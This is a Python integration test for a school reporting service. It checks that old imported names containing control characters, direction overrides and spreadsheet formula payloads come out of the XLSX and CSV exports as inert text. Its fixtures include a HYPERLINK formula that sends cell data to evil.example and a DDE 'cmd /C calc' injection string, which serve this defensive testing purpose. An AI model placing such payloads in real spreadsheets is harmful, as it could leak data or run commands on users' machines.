"""Reports over the real RabbitMQ, on SQLite then PostgreSQL, when older logs hold text today's commands refuse:
control characters, direction overrides and cells a spreadsheet would run as formulas."""
import base64
import csv
import io

import openpyxl
import pytest
from nameko.exceptions import RemoteError

from services.reporting.service import ReportingService
from tests.integration.test_reporting import SOURCE_SERVICES, caught_up

SCHOOLS = [("OED101", "\u0645\u062f\u0631\u0633\u0629\x0b\u0627\u0644\u0623\u0645\u0644", "École\x0bAl Amal\u202e"),
           ("OED102", "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
           ("OED103", "+33 stop", "-2+3")]
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")


def register(rpc):
    rpc.inventory.record([{
        "event_type": "school_registered", "stream_id": f"school:{code}", "occurred_at": "2024-09-02T08:00:00+01:00",
        "actor": {"user": "old-import", "role": "infrastructure"},
        "data": {"school_code": code, "name_ar": ar, "name_fr": fr, "cycle": "primary", "setting": "rural",
                 "commune": "=1+1" if code == "OED103" else "Dakhla", "province_code": "OED",
                 "region_code": "DOE"}} for code, ar, fr in SCHOOLS])
    caught_up(lambda: rpc.reporting.health()["positions"], {"inventory": 3})


def test_old_text_is_written_clean_and_never_as_a_formula(service_databases, run_services, rpc):
    run_services(*SOURCE_SERVICES, ReportingService)
    register(rpc)
    xlsx = rpc.reporting.issue_report("province:OED", "2024-2025", None, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(xlsx["file_base64"])))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_FIRST):
                        assert cell.quotePrefix, cell.value  # stays text when edited, too
    assert "ÉcoleAl Amal" in texts and "مدرسةالأمل" in texts
    assert not [t for t in texts if "\x0b" in t or "\u202e" in t]
    assert '=HYPERLINK("http://evil.example/?"&B2,"x")' in texts  # the name as it was, as text

    report = rpc.reporting.issue_report("province:OED", "2024-2025", None, "csv")
    rows = list(csv.reader(io.StringIO(base64.b64decode(report["file_base64"]).decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_FIRST)]
    assert not [c for c in cells if "\x0b" in c or "\u202e" in c]
    assert [r["report_id"] for r in rpc.reporting.reports()] == [report["report_id"], xlsx["report_id"]]


def test_a_report_whose_file_cannot_be_made_is_not_recorded(service_databases, run_services, rpc, monkeypatch):
    run_services(*SOURCE_SERVICES, ReportingService)
    register(rpc)

    def broken(report, fmt):
        raise OSError("disk full")

    monkeypatch.setattr("services.reporting.service.render", broken)
    with pytest.raises(RemoteError):
        rpc.reporting.issue_report("province:OED", "2024-2025", None, "xlsx")
    assert rpc.reporting.reports() == []
    monkeypatch.undo()
    assert len(rpc.reporting.issue_report("province:OED", "2024-2025", None, "xlsx")["file_base64"]) > 100
    assert len(rpc.reporting.reports()) == 1
